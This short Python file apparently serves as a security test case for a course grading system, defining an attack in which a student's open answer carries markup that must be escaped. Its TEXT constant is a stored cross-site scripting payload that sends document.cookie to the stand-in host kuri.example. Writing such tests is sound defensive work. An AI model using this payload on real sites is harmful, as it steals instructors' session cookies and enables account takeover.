from __future__ import annotations

from typing import Any

TRIES = "A script in an open answer: it would run on the trainer's page, in feedback and in formgrader."
NAMED = "markup"
GUARD = "escape"
TEXT = "<script>fetch('//kuri.example/'+document.cookie)</script>"


def attack(evil: Any) -> None:
    evil.entry(evil.written(TEXT), "enesehindamine")
